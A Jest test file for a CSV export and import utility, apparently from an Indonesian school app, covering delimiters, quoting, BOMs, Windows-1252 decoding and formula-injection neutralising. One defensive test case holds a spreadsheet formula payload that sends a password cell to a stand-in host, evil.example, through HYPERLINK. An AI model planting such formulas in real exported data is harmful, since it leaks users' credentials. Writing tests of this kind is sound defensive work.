import { csvBlob, decodeCsvBytes, parseCsv, toCsv } from './csv';

// jsdom's Blob has no text(); FileReader reads it as a browser would (raw bytes, so the BOM stays visible).
function blobBytes(blob: Blob): Promise<Uint8Array> {
  return new Promise((resolve) => {
    const reader = new FileReader();
    reader.onload = () => resolve(new Uint8Array(reader.result as ArrayBuffer));
    reader.readAsArrayBuffer(blob);
  });
}

describe('toCsv', () => {
  it('separates fields with ; (Indonesian Excel opens it in columns), quotes quotes and line breaks, CRLF line ends', () => {
    expect(
      toCsv([
        ['name', 'pw'],
        ['Putri, S.Pd', 'a"b'],
        ['two\nlines', 7],
      ]),
    ).toBe('name;pw\r\nPutri, S.Pd;"a""b"\r\n"two\nlines";7\r\n');
  });

  it('quotes ; and tab, so a spreadsheet keeps the field whole', () => {
    expect(toCsv([['a;b', 'c\td']])).toBe('"a;b";"c\td"\r\n');
  });

  it('writes numbers with a decimal comma, and no sep= line', () => {
    expect(
      toCsv([
        ['Score', 'Share'],
        [83.33, 0.5],
        [100, -2.25],
      ]),
    ).toBe('Score;Share\r\n83,33;0,5\r\n100;-2,25\r\n');
    expect(toCsv([['a'], [1]])).not.toMatch(/sep=/);
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?pw="&D2,"x")', `"'=HYPERLINK(""https://evil.example/?pw=""&D2,""x"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    // A line break after the formula must not hide it.
    ['=1+2\nSiti', `"'=1+2\nSiti"`],
  ])('neutralises text a spreadsheet would run as a formula: %j', (value, field) => {
    expect(toCsv([[value]])).toBe(`${field}\r\n`);
  });

  it('leaves numbers, empty cells and ordinary text alone', () => {
    expect(toCsv([[-5, 0, null, undefined, 'Siti Rahma', 'a=b']])).toBe('-5;0;;;Siti Rahma;a=b\r\n');
  });
});

describe('csvBlob', () => {
  it('is UTF-8 CSV that starts with a BOM, so spreadsheets read accented names correctly', async () => {
    const blob = csvBlob([['nama'], ['José']]);
    expect(blob.type).toBe('text/csv;charset=utf-8');
    const bytes = await blobBytes(blob);
    expect(Array.from(bytes.slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.slice(3))).toBe('nama\r\nJosé\r\n');
  });
});

describe('decodeCsvBytes', () => {
  const cp1252 = (...bytes: number[]) => new Uint8Array(bytes);

  it('reads Excel\'s "CSV (Comma delimited)" (Windows-1252): accented names arrive intact', () => {
    // "nama;nis\r\nAndréas;1" as Excel saves it on Windows: é = 0xE9, not valid UTF-8 on its own.
    // (Node 20's decoder reads windows-1252 as Latin-1, so its 0x80-0x9F such as ’ = 0x92 are checked in Chromium:
    // e2e/src/student-import.e2e.ts.)
    const bytes = cp1252(...Buffer.from('nama;nis\r\nAndr'), 0xe9, ...Buffer.from('as;1'));
    expect(decodeCsvBytes(bytes)).toEqual({ text: 'nama;nis\r\nAndréas;1', encoding: 'windows-1252' });
  });

  it('reads UTF-8, with or without a BOM, as UTF-8 (also when it holds characters Windows-1252 has too)', () => {
    expect(decodeCsvBytes(new TextEncoder().encode('nama\nAndréas Ma’ruf 😀'))).toEqual({
      text: 'nama\nAndréas Ma’ruf 😀',
      encoding: 'utf-8',
    });
    expect(decodeCsvBytes(cp1252(0xef, 0xbb, 0xbf, ...new TextEncoder().encode('nama\nJosé')))).toEqual({
      text: 'nama\nJosé',
      encoding: 'utf-8',
    });
    expect(decodeCsvBytes(new Uint8Array())).toEqual({ text: '', encoding: 'utf-8' });
  });

  it('reads back what csvBlob writes', async () => {
    expect(decodeCsvBytes(await blobBytes(csvBlob([['nama'], ['José']])))).toEqual({
      text: 'nama\r\nJosé\r\n',
      encoding: 'utf-8',
    });
  });
});

describe('parseCsv', () => {
  it('reads quoted fields, doubled quotes, line breaks inside quotes, CRLF and a BOM', () => {
    const text = '\ufeffname,nis\r\n"Putri, S.Pd",1\r\n"Said ""Ali""",2\n"two\nlines",3\n\n';
    expect(parseCsv(text)).toEqual([
      ['name', 'nis'],
      ['Putri, S.Pd', '1'],
      ['Said "Ali"', '2'],
      ['two\nlines', '3'],
    ]);
  });

  it('guesses semicolons and tabs (Indonesian spreadsheets save with ;)', () => {
    expect(parseCsv('name;nis;grade;status\nAndi;1;10;Active')).toEqual([
      ['name', 'nis', 'grade', 'status'],
      ['Andi', '1', '10', 'Active'],
    ]);
    expect(parseCsv('name;nis\nPutri, S.Pd;1\nAndi;2')).toEqual([
      ['name', 'nis'],
      ['Putri, S.Pd', '1'],
      ['Andi', '2'],
    ]);
    expect(parseCsv('name\tnis\nAndi\t1\n')).toEqual([
      ['name', 'nis'],
      ['Andi', '1'],
    ]);
    expect(parseCsv('name;nis\nAndi;1')).toEqual([
      ['name', 'nis'],
      ['Andi', '1'],
    ]);
  });

  it('drops rows made only of empty fields and reads an empty text as no rows', () => {
    expect(parseCsv('a,b\n , \n1,2\n,\n')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(parseCsv('')).toEqual([]);
  });

  it('reads back what toCsv writes, formulas kept neutral', () => {
    const rows = [
      ['name', 'nis'],
      ['=1+2', '007'],
      ['Putri, S.Pd', 'a"b'],
    ];
    expect(parseCsv(toCsv(rows))).toEqual([
      ['name', 'nis'],
      ["'=1+2", '007'],
      ['Putri, S.Pd', 'a"b'],
    ]);
  });
});
